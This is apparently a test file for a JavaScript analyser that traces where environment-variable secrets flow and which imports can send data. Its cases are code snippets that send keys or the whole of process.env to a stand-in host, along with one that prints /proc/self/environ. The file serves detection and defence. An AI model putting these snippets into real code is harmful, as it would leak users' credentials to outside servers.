// biome-ignore-all lint/suspicious/noTemplateCurlyInString: programs to be read, as text
import { describe, expect, it } from 'vitest'
import { readJavaScript } from './index.ts'

const secrets = (code: string): string[] =>
  readJavaScript(code).secrets.map((one) => `${one.name}@${one.lines.join()} ${[...one.goes].sort().join()}`)

const URL = "'https://a.com/x'"

const CASES: readonly (readonly [code: string, ...secrets: string[]])[] = [
  [`await fetch(${URL}, { headers: { a: Deno.env.get('K') } })`, 'K@1 header'],
  [`await fetch(${URL}, { headers: { a: \`Bearer \${process.env.K}\` } })`, 'K@1 header'],
  [`const { K: k } = process.env; await fetch(${URL}, { headers: [['a', k]] })`, 'K@1 header'],
  [
    `const k = process.env['K']; const h = new Headers(); h.set('a', k); await fetch(${URL}, { headers: h })`,
    'K@1 header',
  ],
  [`const get = Deno.env.get; fetch(${URL}, { headers: { a: get('K') } })`, 'K@1 header'],
  ["fetch('https://a.com/x?k=' + Deno.env.get('K'))", 'K@1 query'],
  [
    "const u = new URL('https://a.com/x'); u.searchParams.append('k', Deno.env.get('K')); fetch(u)",
    'K@1 query',
  ],
  ["fetch(`https://a.com/x?${new URLSearchParams({ k: Deno.env.get('K') })}`)", 'K@1 query'],
  ["fetch(`https://a.com/bot${Deno.env.get('K')}/send`)", 'K@1 path'],
  [`fetch(${URL}, { method: 'POST', body: JSON.stringify({ a: { k: process.env.K } }) })`, 'K@1 body'],
  [`fetch(${URL}, { method: 'POST', body: new URLSearchParams({ k: process.env.K }) })`, 'K@1 body'],
  [`fetch(${URL}, { method: 'POST', body: 'k=' + process.env.K })`, 'K@1 body'],
  ["console.log(Deno.env.get('K'))", 'K@1 output'],
  ["process.stdout.write('k ' + process.env.K)", 'K@1 output'],
  ["await Deno.stdout.write(new TextEncoder().encode(Deno.env.get('K')))", 'K@1 output'],
  [`fetch(${URL}, { headers: { a: 'Basic ' + btoa('u:' + Deno.env.get('K')) } })`, 'K@1 header'],
  [
    `fetch(${URL}, { headers: { a: 'Basic ' + Buffer.from('u:' + process.env.K).toString('base64') } })`,
    'K@1 header',
  ],
  [
    `import { createHmac } from 'node:crypto'\nfetch(${URL}, { headers: { s: createHmac('sha256', process.env.K).update('x').digest('hex') } })`,
    'K@2 computed,header',
  ],
  ["const a = Deno.env.get('K').slice(0, 4)", 'K@1 computed'],
  ["const a = Deno.env.get('K')", 'K@1 unknown'],
  ["if (!Deno.env.get('K')) throw new Error('no')", 'K@1 unknown'],
  [
    `const k = Deno.env.get('K')\nconst j = Deno.env.get('K')\nfetch(${URL}, { headers: { k, j } })`,
    'K@1,2 header',
  ],
  [
    `const call = (k) => fetch(${URL}, { headers: { k } }); call(process.env.A); call(process.env.B)`,
    'A@1 header',
    'B@1 header',
  ],
  [
    `const all = Deno.env.toObject(); fetch(${URL}, { method: 'POST', body: JSON.stringify(all) })`,
    '*@1 body',
  ],
  [`fetch(${URL}, { method: 'POST', body: JSON.stringify(process.env) })`, '*@1 body'],
  [`fetch(${URL}, { method: 'POST', body: JSON.stringify({ ...process.env }) })`, '*@1 body'],
  ['console.log(Object.entries(process.env))', '*@1 output'],
  ['console.log(process.env[name])', '*@1 output'],
  ["import { readFileSync } from 'node:fs'; console.log(readFileSync('/proc/self/environ'))", '*@1 output'],
  ['const args = JSON.parse(process.env.OAUTH3_ARGS); console.log(args.K)'],
  ['const x = process.env.K ?? process.env.L; console.log(x)', 'K@1 output', 'L@1 output'],
  ["import https from 'node:https'; https.request('https://a.com/x').end(process.env.K)", 'K@1 body'],
  [
    "import https from 'node:https'; https.get({ host: 'a.com', headers: { a: process.env.K } })",
    'K@1 header',
  ],
  [
    "import axios from 'npm:axios'; axios.get('https://a.com/x', { params: { k: process.env.K } })",
    'K@1 query',
  ],
  [
    "class C { constructor(k) { this.k = k } go() { return fetch('https://a.com/x', { headers: { k: this.k } }) } } new C(process.env.K).go()",
    'K@1 header',
  ],
]

describe('where secrets go', () => {
  it.each(CASES.map(([code, ...expected]) => ({ code, expected })))('$code', ({ code, expected }) => {
    expect(secrets(code)).toEqual(expected)
  })
})

describe('imports', () => {
  it('names every import with its line, computed ones too', () => {
    const code = `import a from 'npm:zod'
export * from './b.js'
const c = require('node:fs')
const d = await import('jsr:@std/csv')
const e = await import(name)
import type { T } from 'npm:types'`
    expect(readJavaScript(code).imports).toEqual([
      { line: 1, specifier: 'npm:zod', dynamic: false },
      { line: 2, specifier: './b.js', dynamic: false },
      { line: 3, specifier: 'node:fs', dynamic: false },
      { line: 4, specifier: 'jsr:@std/csv', dynamic: true },
      { line: 5, specifier: null, dynamic: true },
      { line: 6, specifier: 'npm:types', dynamic: false },
    ])
  })

  it.each([
    ['npm:zod@3', false],
    ['npm:lodash-es/merge', false],
    ['jsr:@std/encoding/base64', false],
    ['https://esm.sh/date-fns@3?target=deno', false],
    ['https://deno.land/std@0.224.0/csv/mod.ts', false],
    ['npm:stripe', true],
    ['npm:@octokit/rest@20', true],
    ['npm:some-unknown-package', true],
    ['https://example.com/mod.ts', true],
    ['npm:constructor', true],
  ])('%s can send by itself: %s', (specifier, sends) => {
    const { dangers } = readJavaScript(`import x from '${specifier}'`)
    expect(dangers.some((one) => one.kind === 'opaque_sender')).toBe(sends)
  })
})
